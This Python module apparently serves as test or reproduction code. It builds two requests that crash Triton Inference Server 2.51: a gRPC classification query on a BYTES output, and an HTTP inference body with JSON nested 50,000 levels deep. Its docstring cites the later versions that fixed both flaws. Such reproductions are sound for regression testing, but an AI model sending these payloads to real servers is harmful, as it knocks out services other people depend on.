"""Requests that end tritonserver 2.51.

Newer servers refuse them (triton-inference-server/server): JSON deeper than 100 since 2.58
(f46557bec, #8172), `classification` of BYTES since 2.60 (251f8ae4b, #8267).
"""

from __future__ import annotations

import http.client
from collections.abc import Callable
from contextlib import suppress

import numpy as np

DEPTH = 50_000
TIMEOUT_SECONDS = 30.0


def classification(grpc_url: str, http_url: str, clip: bytes) -> None:
    """Ask over gRPC for the largest classes of an output of texts."""
    import tritonclient.grpc as triton
    from tritonclient.utils import InferenceServerException

    video = triton.InferInput("VIDEO", [len(clip)], "UINT8")
    video.set_data_from_numpy(np.frombuffer(clip, np.uint8))
    query = triton.InferInput("QUERY", [1], "BYTES")
    query.set_data_from_numpy(np.array([b"When?"], dtype=np.object_))
    output = triton.InferRequestedOutput("INFO", class_count=1)
    with (
        triton.InferenceServerClient(grpc_url.removeprefix("grpc://")) as client,
        suppress(InferenceServerException),
    ):
        client.infer("videoitg", [video, query], outputs=[output], client_timeout=TIMEOUT_SECONDS)


def nested_data(grpc_url: str, http_url: str, clip: bytes) -> None:
    """Send a text as lists within lists."""
    tensor = f'{{"name": "QUERY", "shape": [1], "datatype": "BYTES", "data": {_nested()}}}'
    _post(http_url, "infer", f'{{"inputs": [{tensor}]}}')


ABORTS: dict[str, Callable[[str, str, bytes], None]] = {
    "classification": classification,
    "nested_data": nested_data,
}
"""Requests that end tritonserver 2.51 by name; each takes both addresses and a video."""


def _nested() -> str:
    return "[" * DEPTH + '"a"' + "]" * DEPTH


def _post(http_url: str, action: str, body: str) -> None:
    connection = http.client.HTTPConnection(
        http_url.removeprefix("http://"), timeout=TIMEOUT_SECONDS
    )
    with suppress(OSError, http.client.HTTPException):
        connection.request("POST", f"/v2/models/videoitg/{action}", body)
        connection.getresponse().read()
    connection.close()
